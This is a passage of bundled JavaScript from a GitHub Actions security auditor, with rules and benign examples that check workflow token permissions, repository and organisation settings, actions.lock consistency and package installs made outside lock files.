        for (const scope of permissions.scopes) {
            const need = needs.rights.get(scope.name.toLowerCase());
            if (scope.access !== 'write' || need?.access === 'write' || needs.maybe.has(scope.name.toLowerCase()))
                continue;
            const { severity, may } = rights.get(scope.name.toLowerCase()) ?? unknownRight;
            yield {
                at: (0,src_context/* placeOfEntry */.h$)(scope.key, scope.value),
                statement: job.map.at,
                severity: severity === 'high' ? 'medium' : 'low',
                message: `No step of \`${job.id}\` needs \`${scope.name}: write\`, with which the token may ${may}`,
                fix: () => (need === undefined ? without(job, scope, context) : lesser(scope)),
            };
        }
    },
    examples: {
        bad: [
            (0,example/* workflowExample */.ih)({
                job: 'permissions:\n  contents: write\n  issues: write # to label',
                steps: '- uses: actions/checkout@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v4.2.2\n  with:\n    persist-credentials: false\n- run: gh issue edit 1 --add-label triage\n  env:\n    GH_TOKEN: ${{ github.token }}',
            }),
            (0,example/* workflowExample */.ih)({ job: 'permissions:\n  packages: write # to push', steps: '- run: make test' }),
        ],
        good: [
            (0,example/* workflowExample */.ih)({
                job: 'permissions:\n  contents: read\n  issues: write # to label',
                steps: '- uses: actions/checkout@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v4.2.2\n  with:\n    persist-credentials: false\n- run: gh issue edit 1 --add-label triage\n  env:\n    GH_TOKEN: ${{ github.token }}',
            }),
        ],
    },
});
function lesser({ value }) {
    if (value.alias !== undefined || value.kind !== 'scalar' || value.verbatim === undefined)
        return undefined;
    return { description: 'Let the token read only', kind: 'suggested', edits: [{ ...value.verbatim, replacement: 'read' }] };
}
function without(job, scope, { file }) {
    const { permissions } = job;
    if (permissions?.value.kind !== 'map' || permissions.value.alias !== undefined)
        return undefined;
    const description = `Take \`${scope.name}\` away`;
    const edits = (0,src_edits/* removeKey */.yE)(file, permissions.value, scope.name);
    if (edits !== undefined)
        return { description, kind: 'suggested', edits };
    if (permissions.scopes.length !== 1)
        return undefined;
    const { start } = permissions.key.at;
    const comment = /[ \t]{0,40}#[^\n\r]{0,500}/y;
    comment.lastIndex = scope.value.at.end;
    const end = scope.value.at.end + (comment.exec(file.text)?.[0].length ?? 0);
    return { description, kind: 'suggested', edits: [{ start, end, replacement: 'permissions: {}' }] };
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/permissions/index.js
// What the token of a job may do.



const permissionRules = [excessivePermissions, unneededPermissions, undocumentedPermissions];

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/platform/answers.js
// Settings of a repository and its organisation as GitHub's API answers them, one answer a key. An export is made by, for each key,
// `gh api PATH`, put together as one object:
//   repository                        repos/OWNER/NAME
//   branch-protection                 repos/OWNER/NAME/branches/BRANCH/protection (null where there is none)
//   branch-rules                      repos/OWNER/NAME/rules/branches/BRANCH
//   actions                           repos/OWNER/NAME/actions/permissions
//   workflow-permissions              repos/OWNER/NAME/actions/permissions/workflow
//   fork-approval                     repos/OWNER/NAME/actions/permissions/fork-pr-contributor-approval
//   private-forks                     repos/OWNER/NAME/actions/permissions/fork-pr-workflows-private-repos
//   organization                      orgs/OWNER
//   runner-groups                     orgs/OWNER/actions/runner-groups
//   audit-log-streams                 enterprises/ENTERPRISE/audit-log/streams
const answerNames = [
    'repository',
    'branch-protection',
    'branch-rules',
    'actions',
    'workflow-permissions',
    'fork-approval',
    'private-forks',
    'organization',
    'runner-groups',
    'audit-log-streams',
];
/** The answer under a key; undefined where the export has none. */
function answer({ root }, name) {
    return root.entries.find((entry) => entry.name === name)?.value;
}
/** A value within an answer, by its keys. */
function valueAt(node, ...path) {
    let at = node;
    for (const name of path)
        at = at?.kind === 'map' ? at.entries.find((entry) => entry.name === name)?.value : undefined;
    return at;
}
/** Text of a plain value; undefined for what is none. */
function textAt(node, ...path) {
    const found = valueAt(node, ...path);
    return found?.kind === 'scalar' ? found.text : undefined;
}
function isNull(node) {
    return node?.kind === 'scalar' && node.plain && node.text === 'null';
}
/** Items of a list, or of the list under a key of an answer with a count. */
function itemsOf(node, key) {
    const list = node?.kind === 'list' || key === undefined ? node : valueAt(node, key);
    return list?.kind === 'list' ? list.items : [];
}
/** Where a value stands, or what holds it where it is missing. */
function placeAt(node, ...path) {
    return valueAt(node, ...path)?.at ?? node.at;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/platform/platform-rule.js
// An audit of settings: what all of them share.

function platformAudit(data) {
    return (0,src_rule/* audit */.s)({ ...data, on: ['settings'] });
}
/** An export in which nothing is wrong but for what is given; undefined takes an answer out. */
function exportExample(changes) {
    return { path: 'github-settings.json', text: JSON.stringify({ ...sound, ...changes }, null, 2) };
}
const sound = {
    repository: {
        private: false,
        default_branch: 'main',
        security_and_analysis: { secret_scanning: { status: 'enabled' }, secret_scanning_push_protection: { status: 'enabled' } },
    },
    'branch-protection': {
        required_pull_request_reviews: { required_approving_review_count: 1, dismiss_stale_reviews: true, require_last_push_approval: true },
        required_status_checks: { strict: true, contexts: ['test'] },
        enforce_admins: { enabled: true },
        allow_force_pushes: { enabled: false },
        allow_deletions: { enabled: false },
    },
    'branch-rules': [],
    actions: { enabled: true, allowed_actions: 'selected', sha_pinning_required: true },
    'workflow-permissions': { default_workflow_permissions: 'read', can_approve_pull_request_reviews: false },
    'fork-approval': { approval_policy: 'all_external_contributors' },
    'private-forks': {
        run_workflows_from_fork_pull_requests: false,
        send_write_tokens_to_workflows: false,
        send_secrets_and_variables: false,
        require_approval_for_fork_pr_workflows: true,
    },
    organization: { two_factor_requirement_enabled: true },
    'runner-groups': { total_count: 1, runner_groups: [{ name: 'Default', allows_public_repositories: false }] },
    'audit-log-streams': [{ id: 1, stream_type: 'Splunk', enabled: true }],
};

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/platform/actions-settings.js
// What GitHub Actions may do by the settings: the default token, whose actions, whose pull requests.



const actions_settings_good = [exportExample({})];
const defaultTokenRights = platformAudit({
    id: 'default-token-rights',
    severity: 'high',
    confidence: 'high',
    title: 'Tokens may write by default',
    why: 'Every workflow that does not say what it needs gets a token that can push, release and approve.',
    remedy: 'Set the default to read: `gh api -X PUT repos/OWNER/NAME/actions/permissions/workflow -f default_workflow_permissions=read -F can_approve_pull_request_reviews=false`.',
    controls: controls/* controls */.n.leastPrivilege,
    risks: risks/* risks */.X.access,
    references: ['https://docs.github.com/en/rest/actions/permissions#get-default-workflow-permissions-for-a-repository'],
    *check(settings) {
        const rights = answer(settings, 'workflow-permissions');
        if (rights === undefined)
            return;
        if (textAt(rights, 'default_workflow_permissions') === 'write')
            yield {
                at: placeAt(rights, 'default_workflow_permissions'),
                message: 'A workflow without `permissions` gets a token that may write',
            };
        if (textAt(rights, 'can_approve_pull_request_reviews') === 'true')
            yield {
                at: placeAt(rights, 'can_approve_pull_request_reviews'),
                severity: 'medium',
                message: 'A workflow may approve pull requests, and so be the second pair of eyes on its own change',
            };
    },
    examples: {
        bad: [
            exportExample({ 'workflow-permissions': { default_workflow_permissions: 'write', can_approve_pull_request_reviews: false } }),
            exportExample({ 'workflow-permissions': { default_workflow_permissions: 'read', can_approve_pull_request_reviews: true } }),
        ],
        good: actions_settings_good,
    },
});
const allowedActions = platformAudit({
    id: 'allowed-actions',
    severity: 'medium',
    confidence: 'high',
    title: 'Actions of anybody may run, by any name',
    why: 'One line in a workflow brings the code of a stranger to the tokens and secrets, and nobody was asked whether it may.',
    remedy: 'Let selected actions run only, and require them to be pinned to a commit.',
    controls: controls/* controls */.n.supplyChain,
    risks: risks/* risks */.X.thirdParty,
    references: ['https://docs.github.com/en/rest/actions/permissions#get-github-actions-permissions-for-a-repository'],
    *check(settings) {
        const actions = answer(settings, 'actions');
        if (actions === undefined || textAt(actions, 'enabled') === 'false')
            return;
        if (textAt(actions, 'allowed_actions') === 'all')
            yield { at: placeAt(actions, 'allowed_actions'), message: 'Every action of every owner may be used' };
        if (textAt(actions, 'sha_pinning_required') === 'false')
            yield { at: placeAt(actions, 'sha_pinning_required'), severity: 'low', message: 'Actions need not be pinned to a commit' };
    },
    examples: {
        bad: [
            exportExample({ actions: { enabled: true, allowed_actions: 'all' } }),
            exportExample({ actions: { enabled: true, allowed_actions: 'selected', sha_pinning_required: false } }),
        ],
        good: [exportExample({ actions: { enabled: false } })],
    },
});
const forkApproval = platformAudit({
    id: 'fork-approval',
    severity: 'medium',
    confidence: 'high',
    title: 'Pull requests of strangers start workflows without anybody\u2019s word',
    why: 'Whoever had one typing mistake merged, or opened an account, runs code on your runners and caches.',
    remedy: 'Require approval for all outside collaborators, and send neither secrets nor tokens that write to forks.',
    controls: controls/* controls */.n.change,
    risks: risks/* risks */.X.poisoned,
    references: [
        'https://docs.github.com/en/actions/how-tos/manage-workflow-runs/approve-runs-from-forks',
        'https://docs.github.com/en/rest/actions/permissions',
    ],
    *check(settings) {
        const approval = answer(settings, 'fork-approval');
        const policy = textAt(approval, 'approval_policy');
        if (approval !== undefined && policy !== undefined && policy !== 'all_external_contributors')
            yield {
                at: placeAt(approval, 'approval_policy'),
                message: policy === 'first_time_contributors'
                    ? 'Whoever has contributed once needs no approval any more'
                    : 'Only accounts that are new to GitHub need an approval',
            };
        const forks = answer(settings, 'private-forks');
        if (forks === undefined || textAt(forks, 'run_workflows_from_fork_pull_requests') !== 'true')
            return;
        if (textAt(forks, 'send_write_tokens_to_workflows') === 'true')
            yield {
                at: placeAt(forks, 'send_write_tokens_to_workflows'),
                severity: 'high',
                message: 'Pull requests of forks get a token that may write',
            };
        if (textAt(forks, 'send_secrets_and_variables') === 'true')
            yield { at: placeAt(forks, 'send_secrets_and_variables'), severity: 'high', message: 'Pull requests of forks get the secrets' };
    },
    examples: {
        bad: [
            exportExample({ 'fork-approval': { approval_policy: 'first_time_contributors_new_to_github' } }),
            exportExample({
                'private-forks': {
                    run_workflows_from_fork_pull_requests: true,
                    send_write_tokens_to_workflows: true,
                    send_secrets_and_variables: true,
                },
            }),
        ],
        good: actions_settings_good,
    },
});
const openRunnerGroups = platformAudit({
    id: 'open-runner-groups',
    severity: 'high',
    confidence: 'high',
    title: 'Public repositories may use runners of one\u2019s own',
    why: 'Anyone who opens a pull request in a public repository then runs code on machines within your network.',
    remedy: 'Take public repositories out of the runner group.',
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.configuration,
    references: ['https://docs.github.com/en/rest/actions/self-hosted-runner-groups'],
    *check(settings) {
        for (const group of itemsOf(answer(settings, 'runner-groups'), 'runner_groups'))
            if (textAt(group, 'allows_public_repositories') === 'true')
                yield {
                    at: placeAt(group, 'allows_public_repositories'),
                    message: `The runners of the group \`${(textAt(group, 'name') ?? '').slice(0, 60)}\` are there for public repositories`,
                };
    },
    examples: {
        bad: [exportExample({ 'runner-groups': { runner_groups: [{ name: 'builders', allows_public_repositories: true }] } })],
        good: actions_settings_good,
    },
});

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/platform/repository-settings.js
// Who may change the default branch, and what is looked at before.



const repository_settings_good = [exportExample({})];
const branchProtection = platformAudit({
    id: 'branch-protection',
    severity: 'high',
    confidence: 'high',
    title: 'The default branch takes changes that nobody looked at',
    why: 'Whoever can push, or has stolen the token of somebody who can, changes what everyone builds and deploys.',
    remedy: 'Require a pull request with an approval that a new push takes back, checks that must pass, and no exceptions for administrators.',
    controls: controls/* controls */.n.change,
    risks: risks/* risks */.X.flow,
    references: ['https://docs.github.com/en/rest/branches/branch-protection', 'https://docs.github.com/en/rest/repos/rules'],
    *check(settings) {
        const protection = answer(settings, 'branch-protection');
        const rules = itemsOf(answer(settings, 'branch-rules'));
        // With neither answer nothing is known.
        if (protection === undefined && answer(settings, 'branch-rules') === undefined)
            return;
        const at = (protection ?? answer(settings, 'branch-rules') ?? settings.root).at;
        const own = isNull(protection) ? undefined : protection;
        if (own === undefined && rules.length === 0) {
            yield { at, message: 'The default branch is not protected at all' };
            return;
        }
        yield* reviewProblems(own, rules, at);
        yield* pushProblems(own, rules, at);
    },
    examples: {
        bad: [
            exportExample({ 'branch-protection': null, 'branch-rules': [] }),
            exportExample({ 'branch-protection': { required_status_checks: { contexts: ['test'] }, enforce_admins: { enabled: true } } }),
            exportExample({
                'branch-protection': null,
                'branch-rules': [{ type: 'pull_request', parameters: { required_approving_review_count: 0 } }, { type: 'required_status_checks' }],
            }),
            exportExample({
                'branch-protection': {
                    required_pull_request_reviews: { required_approving_review_count: 1, dismiss_stale_reviews: true },
                    required_status_checks: { contexts: ['test'] },
                    enforce_admins: { enabled: true },
                    allow_force_pushes: { enabled: true },
                },
            }),
        ],
        good: [
            ...repository_settings_good,
            exportExample({
                'branch-protection': null,
                'branch-rules': [
                    { type: 'pull_request', parameters: { required_approving_review_count: 1, dismiss_stale_reviews_on_push: true } },
                    { type: 'required_status_checks', parameters: {} },
                    { type: 'non_fast_forward' },
                ],
            }),
        ],
    },
});
function ruleOf(rules, type) {
    return rules.find((rule) => textAt(rule, 'type') === type);
}
function* reviewProblems(protection, rules, at) {
    const reviews = valueAt(protection, 'required_pull_request_reviews');
    const rule = valueAt(ruleOf(rules, 'pull_request'), 'parameters');
    if (reviews === undefined && rule === undefined) {
        yield { at, message: 'Changes of the default branch need no review' };
        return;
    }
    const counts = [reviews, rule].map((node) => Number(textAt(node, 'required_approving_review_count') ?? 0));
    if (Math.max(...counts) < 1)
        yield { at: (reviews ?? rule)?.at ?? at, message: 'A pull request needs the approval of nobody' };
    else if (textAt(reviews, 'dismiss_stale_reviews') !== 'true' && textAt(rule, 'dismiss_stale_reviews_on_push') !== 'true')
        yield { at: (reviews ?? rule)?.at ?? at, severity: 'medium', message: 'An approval still counts after another push' };
}
function* pushProblems(protection, rules, at) {
    if (valueAt(protection, 'required_status_checks') === undefined && ruleOf(rules, 'required_status_checks') === undefined)
        yield { at, severity: 'medium', message: 'No check has to pass before a merge' };
    if (protection === undefined)
        return;
    if (textAt(protection, 'allow_force_pushes', 'enabled') === 'true')
        yield { at: placeAt(protection, 'allow_force_pushes', 'enabled'), message: 'The history of the default branch can be rewritten' };
    if (textAt(protection, 'enforce_admins', 'enabled') === 'false')
        yield {
            at: placeAt(protection, 'enforce_admins', 'enabled'),
            severity: 'medium',
            message: 'Administrators need not follow the rules of the branch',
        };
}
const pushProtection = platformAudit({
    id: 'push-protection',
    severity: 'medium',
    confidence: 'high',
    title: 'Secrets can be pushed',
    why: 'A credential that is once in the history is everybody\u2019s; push protection stops most of them before.',
    remedy: 'Turn on secret scanning with push protection.',
    controls: controls/* controls */.n.credentials,
    risks: risks/* risks */.X.credentials,
    references: ['https://docs.github.com/en/code-security/secret-scanning/introduction/about-push-protection'],
    *check(settings) {
        const analysis = valueAt(answer(settings, 'repository'), 'security_and_analysis');
        if (analysis === undefined)
            return;
        if (textAt(analysis, 'secret_scanning_push_protection', 'status') === 'disabled')
            yield { at: placeAt(analysis, 'secret_scanning_push_protection', 'status'), message: 'Pushes are not looked through for secrets' };
    },
    examples: {
        bad: [exportExample({ repository: { security_and_analysis: { secret_scanning_push_protection: { status: 'disabled' } } } })],
        good: repository_settings_good,
    },
});
const twoFactor = platformAudit({
    id: 'two-factor',
    severity: 'high',
    confidence: 'high',
    title: 'Members may sign in with a password alone',
    why: 'One password that was used elsewhere opens the repositories, and everything that they deploy.',
    remedy: 'Require two-factor authentication of the whole organisation.',
    controls: controls/* controls */.n.credentials,
    risks: risks/* risks */.X.identity,
    references: [
        'https://docs.github.com/en/organizations/keeping-your-organization-secure/managing-two-factor-authentication-for-your-organization',
    ],
    *check(settings) {
        const organization = answer(settings, 'organization');
        if (organization !== undefined && textAt(organization, 'two_factor_requirement_enabled') === 'false')
            yield { at: placeAt(organization, 'two_factor_requirement_enabled'), message: 'Two-factor authentication is not required' };
    },
    examples: { bad: [exportExample({ organization: { two_factor_requirement_enabled: false } })], good: repository_settings_good },
});
const auditLogStreaming = platformAudit({
    id: 'audit-log-streaming',
    severity: 'low',
    confidence: 'high',
    title: 'The audit log goes nowhere',
    why: 'GitHub keeps git events for days and others for months, and who takes over an account can look at the same log.',
    remedy: 'Stream the audit log to a store of your own.',
    controls: controls/* controls */.n.audit,
    risks: risks/* risks */.X.visibility,
    references: [
        'https://docs.github.com/en/enterprise-cloud@latest/admin/monitoring-activity-in-your-enterprise/reviewing-audit-logs-for-your-enterprise/streaming-the-audit-log-for-your-enterprise',
    ],
    *check(settings) {
        const streams = answer(settings, 'audit-log-streams');
        if (streams === undefined || itemsOf(streams).some((stream) => textAt(stream, 'enabled') === 'true'))
            return;
        yield { at: streams.at, message: 'No stream of the audit log is on' };
    },
    examples: {
        bad: [exportExample({ 'audit-log-streams': [] }), exportExample({ 'audit-log-streams': [{ id: 1, enabled: false }] })],
        good: repository_settings_good,
    },
});
const settingsNotExported = platformAudit({
    id: 'settings-not-exported',
    severity: 'low',
    confidence: 'high',
    title: 'The export of settings lacks answers',
    why: 'What is not in it was not checked.',
    remedy: 'Add the answer of the API under that key, `null` where there is none; the token needs the right to read it.',
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.visibility,
    references: ['https://docs.github.com/en/rest'],
    *check(settings) {
        const missing = answerNames.filter((name) => answer(settings, name) === undefined);
        if (missing.length > 0)
            yield {
                at: { start: settings.root.at.start, end: settings.root.at.start },
                message: `Not checked, since the export has no ${missing.map((name) => `\`${name}\``).join(', ')}`,
            };
    },
    examples: { bad: [exportExample({ organization: undefined })], good: repository_settings_good },
});

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/platform/index.js
// Settings of the repository and its organisation, as an export has them.


const platformRules = [
    allowedActions,
    auditLogStreaming,
    branchProtection,
    defaultTokenRights,
    forkApproval,
    openRunnerGroups,
    pushProtection,
    settingsNotExported,
    twoFactor,
];

// EXTERNAL MODULE: ./build/bundled/packages/formats/src/workflow/read-lock.js
var read_lock = __webpack_require__(8221);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/locked.js
// What GitHub's lock of actions says of a `uses:`.

/** Versions of the lock's schema whose meaning is known here. */
const versions = new Set(['v0.0.2', 'v0.0.3']);
function isKnownVersion(version) {
    return version !== undefined && versions.has(version);
}
/** A whole commit id with its algorithm before it. */
function isLockedCommit(commit) {
    return commit !== undefined && /^(?:sha1-[0-9a-f]{40}|sha256-[0-9a-f]{64})$/.test(commit);
}
/**
 * `locked`: GitHub runs the commit that the lock names, whatever the ref has become. `missing`: the workflow goes by the lock, which does not
 * name it, so GitHub refuses to start it. Undefined where the lock has no say: in a workflow that does not go by it, in an action, which
 * other repositories use without this lock, and for reusable workflows, which the locks of their own repositories are for.
 */
function lockedUse({ target }, { file, document, repository }) {
    if (document.kind !== 'workflow' || target.kind !== 'repository' || target.path.startsWith('.github/workflows/'))
        return undefined;
    const lock = repository.lock();
    const workflow = lock?.workflows.get(file.path.slice(repository.root.length));
    if (lock === undefined || workflow === undefined || !isKnownVersion(lock.version?.text))
        return undefined;
    const name = (0,read_lock/* pinName */.l)(`${target.slug}@${target.ref ?? ''}`);
    const isNamed = workflow.pins.has(name) && isLockedCommit(lock.dependencies.get(name)?.commit?.text);
    return isNamed ? 'locked' : 'missing';
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/supply-chain/actions-lock.js
// GitHub's lock of the actions that workflows use, held against itself and against the workflows that go by it.



const commit = 'sha1-49933ea5288caeca8642d1e84afbd3f7d6820020';
const path = '.github/workflows/actions.lock';
const actionsLock = (0,src_rule/* audit */.s)({
    id: 'actions-lock',
    severity: 'medium',
    confidence: 'high',
    title: 'The lock of actions and the workflows disagree',
    why: 'Who reads actions.lock takes what it lists for pinned, and GitHub does not start a workflow that goes by the lock and uses what it has no commit for: required checks wait, others fall silent.',
    remedy: 'Run `gh actions-lock` and commit what it writes, after a look at the commits.',
    controls: controls/* controls */.n.supplyChain,
    risks: risks/* risks */.X.dependencies,
    references: ['https://docs.github.com/en/actions/concepts/security/workflow-dependency-lockfiles'],
    on: ['lock', 'uses'],
    *check(part, context) {
        if ('uses' in part)
            yield* unlocked(part, context);
        else {
            yield* faults(part, context);
            yield* moved(part, context);
        }
    },
    examples: {
        bad: [
            { path, text: 'version: v9\n' },
            { path, text: "version: v0.0.2\nworkflows:\n  '.github/workflows/a.yml':\n    - 'actions/setup-node@v4'\ndependencies: {}\n" },
            { path, text: "version: v0.0.2\ndependencies:\n  'actions/setup-node@v4':\n    ref: v4\n    commit: sha1-49933ea\n" },
        ],
        good: [
            {
                path,
                text: `version: v0.0.2\ndependencies:\n  'actions/setup-node@v4':\n    ref: v4\n    commit: ${commit}\n    owner_id: 1\n    repo_id: 1\n`,
            },
        ],
    },
});
function* unlocked(site, context) {
    if (lockedUse(site.uses, context) !== 'missing')
        return;
    yield {
        at: site.uses.scalar.at,
        statement: site.owner.map.at,
        message: `actions.lock lists this workflow, but has no commit for ${actions_lock_shown(site.uses.text)}: GitHub does not start it`,
    };
}
function* faults({ root, version, workflows, dependencies }, { repository }) {
    if (!isKnownVersion(version?.text)) {
        const said = version === undefined ? 'no version' : `the version ${actions_lock_shown(version.text)}`;
        yield { at: version?.at ?? root.at, message: `The lock has ${said}; expected v0.0.2 or v0.0.3, so nothing here is taken for locked` };
        return;
    }
    for (const [workflow, { key, pins }] of workflows) {
        if (repository.has(workflow) === false)
            yield { at: key.at, message: `The lock lists the workflow ${actions_lock_shown(workflow)}, which is not there` };
        for (const [name, pin] of pins)
            if (!dependencies.has(name))
                yield { at: pin.at, message: `The lock lists ${actions_lock_shown(pin.text)} for a workflow and has no commit for it` };
    }
    for (const name of ['workflows', 'dependencies']) {
        const entry = root.entries.find((one) => one.name === name);
        if (entry !== undefined && entry.value.kind !== 'map')
            yield { at: entry.key.at, message: `\`${name}\` of the lock is no mapping, so nothing there is taken for locked` };
    }
    for (const { key, commit: written, twice } of dependencies.values())
        if (twice === true)
            yield { at: key.at, message: `The lock has more than one commit for ${actions_lock_shown(key.text)}, so none is taken` };
        else if (!isLockedCommit(written?.text))
            yield {
                at: written?.at ?? key.at,
                message: `The lock has no whole commit for ${actions_lock_shown(key.text)}; expected sha1- or sha256- before it`,
            };
}
/** What a change makes of the commits: whoever writes the lock decides what runs under a name that nobody touched. */
function* moved({ dependencies }, { file, repository, settings }) {
    if (settings.before === undefined)
        return;
    const before = settings.before(file.path);
    if ('unknown' in before) {
        if (dependencies.size > 0)
            repository.uncompared(file.path, `what this change does to the locked commits is not known: ${before.unknown}`);
        return;
    }
    const { text } = before;
    if (text === file.text)
        return;
    const base = text === undefined ? undefined : repository.lockIn(text);
    for (const [name, { key, commit: written }] of dependencies) {
        const was = base?.dependencies.get(name)?.commit?.text;
        if (written === undefined || written.text === was)
            continue;
        const now = `\`${written.text.slice(0, 80)}\``;
        yield {
            at: written.at,
            statement: key.at,
            severity: was === undefined ? 'low' : 'medium',
            message: was === undefined
                ? `This change locks ${actions_lock_shown(key.text)} to ${now}, which the judging commit does not have: nobody has looked whether it is that action\u2019s`
                : `This change moves ${actions_lock_shown(key.text)} from \`${was.slice(0, 80)}\` to ${now}, under the name that it had`,
        };
    }
}
function actions_lock_shown(text) {
    return `\`${text.slice(0, 200)}\``;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/supply-chain/installs.js
// Commands that install packages by name, by program. Managers whose projects usually have a lock file are for everyone, the others
// for whoever asks for best practice in full.


const managers = new Map([
    [
        'npm',
        {
            verbs: ['install', 'i', 'add', 'in', 'isntall'],
            audience: 'everyone',
            taking: ['--prefix', '--registry', '-w', '--workspace', '-C', '--loglevel', '--omit', '--include'],
        },
    ],
    ['pnpm', { verbs: ['add'], audience: 'everyone', taking: ['--filter', '-F', '-C', '--dir'] }],
    ['yarn', { verbs: ['add'], audience: 'everyone', taking: ['--cwd'] }],
    [
        'gem',
        {
            verbs: ['install', 'i'],
            audience: 'everyone',
            taking: ['-v', '--version', '-i', '--install-dir', '-n', '--bindir', '-s', '--source'],
        },
    ],
    ['bundle', { verbs: ['add'], audience: 'everyone', taking: ['-v', '--version', '--group', '--source'] }],
    ['bun', { verbs: ['add'], audience: 'pedantic', taking: ['--cwd'] }],
    [
        'pip',
        {
            verbs: ['install'],
            audience: 'pedantic',
            taking: ['-i', '--index-url', '--extra-index-url', '-t', '--target', '-c', '--constraint', '-f', '--find-links'],
            unless: ['-r', '--requirement', '-e', '--editable', '--require-hashes'],
        },
    ],
    ['pipx', { verbs: ['install'], audience: 'pedantic', taking: ['--python', '--index-url'] }],
    [
        'cargo',
        {
            verbs: ['install'],
            audience: 'pedantic',
            taking: ['--version', '--features', '--root', '-F', '--target', '--profile'],
            unless: ['--path', '--locked'],
        },
    ],
]);
/** @returns who should hear of it, undefined for what installs nothing by name. */
function adhocInstall(program, args) {
    if (/^python(?:3(?:\.\d{1,2})?)?$/.test(program) && args[0] === '-m' && args[1] === 'pip')
        return adhocInstall('pip', args.slice(2));
    if (program === 'uv' && args[0] === 'pip')
        return adhocInstall('pip', args.slice(1));
    if (program === 'yarn' && (0,program_words/* programWords */.O)('yarn', args)[0] === 'global')
        return adhocInstall('yarn', args.slice(args.indexOf('global') + 1));
    if (program === 'yarn' && (0,program_words/* programWords */.O)('yarn', args)[0] === 'workspace')
        return adhocInstall('yarn', args.slice(args.indexOf('workspace') + 2));
    const manager = managers.get(program === 'pip3' ? 'pip' : program);
    if (manager === undefined || (0,src_script/* hasOption */.Kz)(args, ...(manager.unless ?? [])))
        return undefined;
    const words = installs_namesIn(args, manager.taking ?? []);
    const [verb = '', ...names] = words;
    if (!manager.verbs.includes(verb))
        return undefined;
    const wanted = manager.audience === 'everyone' ? names : names.filter(isFromRegistry);
    return wanted.length === 0 ? undefined : manager.audience;
}
function installs_namesIn(args, taking) {
    return args.filter((word, at) => !word.startsWith('-') && !taking.includes(args[at - 1] ?? ''));
}
/** The project itself, a file, or a version that is fixed, is not what the registry has at that moment. */
function isFromRegistry(name) {
    if (/^(?:\.|\/|~|dist\/|[\w-]{1,40}\.(?:whl|tar\.gz)$|\$)/.test(name) || name.startsWith('X'))
        return false;
    return !/==|@\d/.test(name) && name !== 'pip';
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/supply-chain/adhoc-packages.js
// Packages that a script installs beside any lock file.





const adhocPackages = (0,src_rule/* audit */.s)({
    id: 'adhoc-packages',
    severity: 'low',
    confidence: 'high',
    title: 'A script installs a package that no lock file holds',
    why: 'What comes with it, and without an exact version the package itself, is whatever the registry has at that moment, and no review saw it.',
    remedy: 'Put the package into a manifest with a lock file and install from there, as `npm ci` or `bundle install` do.',
    controls: controls/* controls */.n.supplyChain,
    risks: risks/* risks */.X.dependencies,
    references: ['https://docs.zizmor.sh/audits/#adhoc-packages'],
    on: ['script-step'],
    *check(step, context) {
        const script = (0,src_script/* scriptOf */.YI)(step, context);
        if (script === undefined)
            return;
        for (const { command, name, args } of (0,src_script/* invocationsIn */.J3)(script)) {
            const found = adhocInstall(name, args);
            if (found === undefined)
                continue;
            yield {
                at: script.place(command.node),
                statement: step.map.at,
                message: `\`${[name, ...args].slice(0, 6).join(' ').slice(0, 80)}\` installs from outside of any lock file`,
                ...(found === 'pedantic' ? { persona: 'pedantic' } : {}),
            };
        }
    },
    examples: {
        bad: [
            (0,example/* stepsExample */.Y6)('- run: npm install --save-dev left-pad'),
            (0,example/* stepsExample */.Y6)('- run: |\n    cd web\n    sudo npm i -g yarn'),
            (0,example/* stepsExample */.Y6)('- run: gem install bundler'),
            (0,example/* stepsExample */.Y6)('- run: pip install build'),
            (0,example/* stepsExample */.Y6)('- run: cargo install cargo-audit'),
        ],
        good: [(0,example/* stepsExample */.Y6)('- run: npm ci\n- run: npm install\n- run: yarn install\n- run: pip install --require-hashes -r requirements.txt')],
    },
});

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/facts/archived.js
// Repositories of actions and hooks that their owners have given up, in small letters, with what took their place where something did.
// Source: names that zizmor 1.32 reports as archived, and three by the notice in their README; November 2026. What is archived is never
// changed again, so the table grows and nothing in it becomes wrong.
const archivedSource = { source: 'zizmor 1.32 and notices of the repositories', date: '2026-11-29' };
const runner = 'the runner\u2019s own program in a `run:` step';
/** By `owner/name`; undefined where nothing took its place that is known. */
const archivedActions = new Map([
    ['8398a7/action-slack', 'slackapi/slack-github-action'],
    ['actions-rs/audit-check', 'rustsec/audit-check'],
    ['actions-rs/cargo', runner],
    ['actions-rs/clippy-check', runner],
    ['actions-rs/components-nightly', runner],
    ['actions-rs/grcov', undefined],
    ['actions-rs/install', 'taiki-e/install-action'],
    ['actions-rs/tarpaulin', undefined],
    ['actions-rs/toolchain', 'dtolnay/rust-toolchain'],
    ['actions/create-release', '`gh release create`'],
    ['actions/setup-elixir', 'erlef/setup-beam'],
    ['actions/setup-haskell', 'haskell-actions/setup'],
    ['actions/setup-ruby', 'ruby/setup-ruby'],
    ['actions/upload-release-asset', '`gh release upload`'],
    ['artichoke/setup-rust', 'dtolnay/rust-toolchain'],
    ['azure/appconfiguration-sync', undefined],
    ['azure/appservice-actions', undefined],
    ['azure/azure-resource-login-action', 'azure/login'],
    ['azure/container-actions', undefined],
    ['azure/container-scan', undefined],
    ['azure/data-factory-deploy-action', undefined],
    ['azure/docker-login', 'docker/login-action'],
    ['azure/get-keyvault-secrets', '`az keyvault secret show`'],
    ['azure/k8s-actions', undefined],
    ['azure/manage-azure-policy', undefined],
    ['azure/publish-security-assessments', undefined],
    ['azure/run-sqlpackage-action', 'azure/sql-action'],
    ['azure/spring-cloud-deploy', undefined],
    ['azure/webapps-container-deploy', 'azure/webapps-deploy'],
    ['bufbuild/buf-setup-action', 'bufbuild/buf-action'],
